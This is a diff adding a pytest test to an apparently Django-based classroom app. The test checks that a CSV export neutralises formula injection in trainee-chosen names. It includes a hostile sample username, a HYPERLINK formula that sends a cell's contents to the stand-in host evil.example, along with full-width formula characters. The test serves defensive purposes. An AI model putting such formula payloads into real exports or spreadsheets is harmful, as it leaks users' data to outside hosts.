@@ -1,6 +1,7 @@
 """The classroom page and its command."""
 
 import base64
+import csv
 import re
 
 import pytest
@@ -100,6 +101,23 @@ def test_resets_and_deletes_a_class_after_asking(office):
     assert User.objects.get(pk=user.pk).password != user.password
     office.post(PAGE, {"do": "delete", "class_name": "H51901", "sure": "1"})
     assert not User.objects.filter(pk=user.pk).exists()
+
+
+def test_runs_no_formula_that_a_trainee_chose_as_a_name(office, api):
+    password = add(office, names="谭鹏").context["slips"][0].password
+    body = api.post("/users/login", {"username": "h51901-01", "password": password}).json()
+    names = {"username": '=HYPERLINK("http://evil.example/?"&D3)', "nickname": "＝1+1"}
+    changed = api.post(
+        "/users/updateUser", {"unid": body["userInfo"]["unid"]} | names, headers={"authorization": body["token"]}
+    )
+    assert changed.json()["state"]
+
+    page = office.post(PAGE, {"do": "reset", "class_name": "H51901", "sure": "1"}).content.decode()
+
+    table = base64.b64decode(re.search(r"data:text/csv;base64,([^\"]+)", page)[1]).decode("utf-8-sig")
+    _, row = csv.reader(table.splitlines())
+    assert row[0] == "'＝1+1" and row[2] == "'" + names["username"]
+    assert not any(cell.startswith(tuple("=+-@＝＋－＠")) for cell in row)
 
 
 def test_puts_the_demo_back_and_leaves_the_rest(office, api):
